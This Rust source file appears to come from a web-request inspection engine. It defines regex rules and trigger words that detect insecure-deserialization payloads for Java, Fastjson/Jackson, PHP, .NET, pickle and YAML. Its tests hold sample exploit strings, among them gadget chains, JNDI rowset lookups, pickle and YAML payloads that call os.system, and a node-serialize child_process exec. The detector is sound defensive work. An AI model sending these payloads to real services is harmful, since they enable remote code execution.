//! Deserialization markers: Java serialization (`rO0AB` base64, `aced0005` hex) and gadget classes,
//! Jackson/Fastjson polymorphic typing (`"@type":"com.sun...`, `["com.sun.rowset.JdbcRowSetImpl",`),
//! XMLDecoder and XStream, PHP `serialize` objects and arrays (`O:8:"stdClass":`, `a:2:{i:0;`),
//! .NET BinaryFormatter (`AAEAAAD/////`), ObjectStateFormatter and Json.NET `$type`, Python pickle
//! opcodes and YAML tags (`!!python/object`, `!ruby/object`), node-serialize functions.
//!
//! Base64 markers are case-sensitive (a random base64 blob contains a given 5-character string about
//! once in a billion positions); class names are matched case-insensitively.

use std::sync::LazyLock;

use super::super::{Category, Rule};
use super::text::RuleSet;
use super::Out;

static JAVA: Rule = Rule {
    id: 9001,
    category: Category::Deserialization,
    paranoia: 1,
    score: 5,
    name: "Java serialized object (rO0AB, aced0005)",
};
static GADGET: Rule = Rule {
    id: 9002,
    category: Category::Deserialization,
    paranoia: 1,
    score: 5,
    name: "known deserialization gadget class (InvokerTransformer, TemplatesImpl, ObjectDataProvider)",
};
static POLYMORPHIC: Rule = Rule {
    id: 9003,
    category: Category::Deserialization,
    paranoia: 1,
    score: 5,
    name: "polymorphic type in JSON or XML (\"@type\":\"com.sun, [\"org.springframework, $type System.)",
};
static PHP: Rule = Rule {
    id: 9004,
    category: Category::Deserialization,
    paranoia: 1,
    score: 5,
    name: "PHP serialized object or array (O:8:\"stdClass\":, a:2:{i:0;)",
};
static DOTNET: Rule = Rule {
    id: 9005,
    category: Category::Deserialization,
    paranoia: 1,
    score: 5,
    name: ".NET BinaryFormatter or ObjectStateFormatter payload (AAEAAAD/////, /wEy)",
};
static PICKLE: Rule = Rule {
    id: 9006,
    category: Category::Deserialization,
    paranoia: 1,
    score: 5,
    name: "Python pickle opcodes (cos\\nsystem, (S'...'tR.)",
};
static YAML_TAG: Rule = Rule {
    id: 9007,
    category: Category::Deserialization,
    paranoia: 1,
    score: 5,
    name: "YAML language tag (!!python/object, !ruby/object, !!javax.)",
};
static LOOSE: Rule = Rule {
    id: 9101,
    category: Category::Deserialization,
    paranoia: 2,
    score: 3,
    name: "possible serialized payload (gzip or Ruby Marshal base64, __reduce__, pickle header)",
};

pub(super) const TRIGGERS: &[&str] = &[
    "ro0ab",
    "aced0005",
    "\\xac\\xed",
    "%ac%ed",
    "transformer",
    "lazymap",
    "templatesimpl",
    "rowsetimpl",
    "invocationhandler",
    "badattributevalue",
    "factorybean",
    "xalan",
    "xsltc",
    "c3p0",
    "xbean",
    "logback",
    "dbcp",
    "commons.configuration",
    "bsh.",
    "groovy",
    "eventhandler",
    "processbuilder",
    "dynamic-proxy",
    "ysoserial",
    "applicationcontext",
    "objectdataprovider",
    "system.",
    "typeconfusedelegate",
    "textformattingrunproperties",
    "microsoft.powershell",
    "_$$nd_func$$_",
    "javax.",
    "ibatis",
    "hibernate",
    "hikari",
    "oracle.jdbc",
    "weblogic",
    "@type",
    "@class",
    "$type",
    "[\"",
    "['",
    ":{",
    "aaeaaad",
    "/wey",
    "\n",
    "(s'",
    "gasv",
    "y29zcn",
    "y3bvc2l4",
    "y19fyNVpbHRpbl9f",
    "y3n1ynbyb2nlc3mk",
    "!!",
    "!ruby",
    "h4sia",
    "bah",
    "__reduce__",
    "class=",
];

static RULES: LazyLock<RuleSet> = LazyLock::new(|| {
    RuleSet::new(&[
        (r"rO0AB|(?i:aced0005|\\xac\\xed\\x00\\x05|%ac%ed%00%05)", &JAVA),
        (
            r"(?i)invokertransformer|chainedtransformer|constanttransformer|instantiatetransformer|\blazymap\b|templatesimpl|jdbcrowsetimpl|annotationinvocationhandler|badattributevalueexpexception|propertypathfactorybean|commons\.collections\d?\.functors|com\.sun\.org\.apache\.xalan|xsltc\.trax|com\.mchange\.v2\.c3p0|org\.apache\.xbean\.naming|ch\.qos\.logback\.core\.db|org\.apache\.tomcat\.dbcp|org\.apache\.commons\.configuration|bsh\.interpreter|org\.codehaus\.groovy\.runtime|java\.beans\.eventhandler|<dynamic-proxy>|ysoserial|classpathxmlapplicationcontext|filesystemxmlapplicationcontext|system\.windows\.data\.objectdataprovider|system\.diagnostics\.process\b|system\.management\.automation|system\.configuration\.install\.assemblyinstaller|system\.activities\.presentation|system\.web\.security\.rolesprincipal|system\.identitymodel\.tokens|system\.windows\.forms\.bindingsource|system\.security\.principal\.windowsidentity|typeconfusedelegate|textformattingrunproperties|microsoft\.powershell\.editor|_\$\$nd_func\$\$_|org\.apache\.ibatis\.datasource|com\.zaxxer\.hikari\.hikariconfig|oracle\.jdbc\.connector|weblogic\.jms|class\s*=\s*['\x22]java\.lang\.(?:processbuilder|runtime)|^\s*java\.lang\.(?:processbuilder|runtime)\s*$",
            &GADGET,
        ),
        (
            r#"(?i)['"]@(?:type|class)['"]\s*:\s*['"]l?(?:com\.sun|org\.apache|org\.springframework|java\.|javax\.|ch\.qos|com\.mchange|oracle\.|org\.hibernate|com\.alibaba|org\.codehaus|bsh\.|org\.mozilla|com\.zaxxer|br\.com|org\.jboss|weblogic\.|com\.ibm|sun\.|jdk\.)|['"]\$type['"]\s*:\s*['"]system\.|^\s*\[\s*['"](?:com|org|java|javax|ch|sun|oracle|net|br|bsh|weblogic)\.[\w.$]+['"]\s*,\s*[\[{'"]"#,
            &POLYMORPHIC,
        ),
        (
            r#"(?i)(?:^|[^a-z0-9_])[oc]:\+?\d{1,5}:"[a-z_\\][a-z0-9_\\]{0,200}":\d{1,5}:\{|(?:^|[;{}\s])a:\d{1,5}:\{(?:[isdbaoc]:|\})"#,
            &PHP,
        ),
        (r"AAEAAAD/////|^\s*/wEy", &DOTNET),
        (
            r"c(?:os|posix|nt|subprocess|builtins|__builtin__|commands|pty|socket|platform)\n(?:system|popen|check_output|check_call|call|run|eval|exec|getattr|spawn\w*|Popen|execve|getoutput|apply)|\(S'[^'\n]{0,200}'\n(?:p\d+\n)?tR\.|^\s*gASV|Y29zCnN5c3RlbQ|Y3Bvc2l4CnN5c3RlbQ|Y19fYnVpbHRpbl9f|Y3N1YnByb2Nlc3MK",
            &PICKLE,
        ),
        (
            r"(?i)!!python/|tag:yaml\.org,2002:python/|!ruby/(?:object|hash|struct|marshal|class)|!!ruby/|!!javax?\.|!!com\.sun|!!org\.(?:apache|springframework)|!!sun\.",
            &YAML_TAG,
        ),
        (r"^\s*H4sIA|^\s*BAh[7-9A-Za-z]|(?i:__reduce__)|^\s*gA[JN]", &LOOSE),
    ])
});

pub(super) fn scan(out: &mut Out<'_, '_>) {
    RULES.scan(out);
}

#[cfg(test)]
mod tests {
    use super::super::testing::{blocks, ids, ids_at};
    use crate::inspect::detect::TargetKind;

    #[test]
    fn patterns_compile() {
        assert!(super::RULES.compiled());
    }

    #[test]
    fn markers_are_detected_at_level_1() {
        for p in [
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
            "JSESSIONID=rO0ABXQAAmlk",
            "ACED00057372001A",
            "aced0005737200",
            "org.apache.commons.collections.functors.InvokerTransformer",
            "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://x/a\"}",
            "{\"@type\":\"Lcom.sun.rowset.RowSetImpl;\"}",
            "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"rmi://x/a\"}]",
            "[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://x/a.xml\"]",
            "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}",
            "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"></array></object></java>",
            "java.lang.ProcessBuilder",
            "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>",
            "O:8:\"stdClass\":1:{s:4:\"test\";b:1;}",
            "O:+8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
            "C:4:\"User\":20:{a:1:{i:0;s:2:\"id\";}}",
            "O:23:\"yii\\db\\BatchQueryResult\":1:{s:4:\"file\";}",
            "a:2:{i:0;s:3:\"abc\";i:1;s:3:\"def\";}",
            "a:1:{i:0;O:8:\"stdClass\":0:{}}",
            "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0=",
            "/wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdC5Qb3dlclNoZWxs",
            "cos\nsystem\n(S'id'\ntR.",
            "cposix\nsystem\np0\n(S'id'\np1\ntR.",
            "gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
            "Y29zCnN5c3RlbQooUydpZCcKdFIu",
            "!!python/object/apply:os.system [\"id\"]",
            "!!python/object/new:subprocess.check_output [[\"id\"]]",
            "--- !ruby/object:Gem::Installer\ni: x",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]",
            "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
        ] {
            assert!(blocks(p, TargetKind::JsonString), "{p:?}: {:?}", ids_at(p, TargetKind::JsonString, 4));
        }
    }

    #[test]
    fn benign_look_alikes_pass_at_level_1() {
        for p in [
            "C01i8f2XqLJghOuBWswqYzllGBqnybq5fBHlI0g1QHM=",
            "{\"@type\": \"Person\", \"name\": \"Ada\"}",
            "{\"@context\": \"https://schema.org\", \"@type\": \"Organization\"}",
            "Ratio a:2 and b:3",
            "Note: {a:1}",
            "java.util.List is an interface",
            "Use !!str to force a string in YAML",
            "The aced team won",
            "s:5 of the series",
            "{\"$type\": \"MyApp.Models.User, MyApp\"}",
        ] {
            assert!(!blocks(p, TargetKind::JsonString), "{p:?}: {:?}", ids(p));
        }
    }

    #[test]
    fn looser_levels_catch_more() {
        assert!(ids_at("H4sIAAAAAAAA/1vzloG1uIhBPjE5NTEpRy8k", TargetKind::JsonString, 2).contains(&9101));
    }
}
